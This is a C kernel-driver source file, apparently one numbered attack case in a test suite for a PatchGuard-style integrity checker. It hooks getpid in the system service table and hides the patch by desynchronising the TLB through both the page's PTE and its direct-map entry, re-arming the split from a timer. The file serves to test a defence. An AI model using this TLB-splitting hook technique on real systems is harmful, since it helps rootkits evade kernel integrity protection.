/* attack_a110_dm_split (A110): A98 with the direct map split as well. A98
 * split the view of the page holding the system service table for reads
 * (the TLB maps the kernel's address of the page to a copy, the PTE names
 * the original); PatchGuard's answer reads the page through its address
 * and through the frame its PTE names in the direct map, and compares.
 * This driver also splits the direct map's view of that frame: its 2 MiB
 * direct-map entry is pointed for a moment at a page table of the
 * driver's own, which maps the same 2 MiB 4 KiB at a time with that one
 * frame replaced by the copy; one read through the direct-map address
 * caches the copy's translation, and the entry is put back without
 * invalidating it. From a periodic timer on every tick, with interrupts
 * off, both splits are set up again: every read of the page, through
 * either address, shows the copy, with getpid's entry pointed at the
 * driver's routine (returning 4242); the PTE and the direct-map entry read
 * as armed. Expected (before the fix): no bug check, `svc` prints pid
 * 4242. */
#include "attack_pg.h"

static struct ktimer beat;
static struct dpc beat_dpc;
static uint64_t *pte, orig, split, page;
static uint64_t *dm_pde, dm_orig, dm_split, dm_va;
static volatile uint64_t *entry;
static uint64_t splits;

static uint64_t fake_getpid(void) { return 4242; }

static void resplit(struct dpc *d, void *ctx)
{
	uint64_t pf = a_cli();
	/* The direct map's address of the frame: the TLB takes the copy. */
	*dm_pde = dm_split;
	a_invlpg(dm_va);
	(void)*(volatile uint64_t *)dm_va;
	*dm_pde = dm_orig;
	/* The kernel's address of the page (A98). */
	*pte = split;
	a_invlpg(page);
	(void)*entry;
	*pte = orig;
	if (++splits == 100)
		printk("attack_a110: split set up 100 times\n");
	a_restore(pf);
}

/* A page-aligned page of the pool (in the direct map), or NULL. */
static uint8_t *page_of_pool(void)
{
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x74696C53);
	if (!buf)
		return NULL;
	uint8_t *p = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	return (uint64_t)p >= KPP_DIRECT_MAP_BASE ? p : NULL;
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t *table = a_find_service_table();
	uint8_t *copy = page_of_pool(), *pt = page_of_pool();
	if (!table || !copy || !pt) {
		printk("attack_a110: service table not found, or no memory\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	entry = &table[KPP_SYS_GET_PID];
	page = (uint64_t)entry & ~(A_PAGE - 1);
	pte = a_pte_of(page, 0);
	if (!pte) {
		printk("attack_a110: no PTE for the service table\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	orig = *pte;
	uint64_t frame = orig & A_PTE_ADDR;
	dm_va = KPP_DIRECT_MAP_BASE + frame;
	dm_pde = a_pte_of(dm_va, 1);
	if (!dm_pde || !(*dm_pde & (1ull << 7))) {
		printk("attack_a110: the direct map has no 2 MiB entry for the frame\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	memcpy(copy, (const void *)page, A_PAGE);
	uint64_t fake = (uint64_t)&fake_getpid;
	memcpy(copy + ((uint64_t)entry - page), &fake, sizeof fake);
	uint64_t copy_pa = (uint64_t)copy - KPP_DIRECT_MAP_BASE;
	split = (orig & ~A_PTE_ADDR) | copy_pa;
	/* The page table: the 2 MiB region as the direct map has it (present,
	 * writable, no-execute, global, accessed, dirty), the frame replaced. */
	dm_orig = *dm_pde;
	uint64_t region = dm_orig & A_PTE_ADDR & ~0x1FFFFFull, *e = (uint64_t *)pt;
	for (uint64_t i = 0; i < 512; i++) {
		uint64_t pa = region + i * A_PAGE;
		e[i] = (pa == frame ? copy_pa : pa) | A_PTE_P | A_PTE_W | (1ull << 5) | (1ull << 6) | (1ull << 8) | A_PTE_NX;
	}
	dm_split = ((uint64_t)pt - KPP_DIRECT_MAP_BASE) | A_PTE_P | A_PTE_W | (1ull << 5) | A_PTE_NX;
	dpc_init(&beat_dpc, resplit, NULL);
	timer_init(&beat, &beat_dpc);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	resplit(NULL, NULL);
	timer_set(&beat, 10000000ull, 10000000ull);
	printk("attack_a110: the service table's page split through its address and through the direct map: both read a copy\n");
	a_patched("attack_a110");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
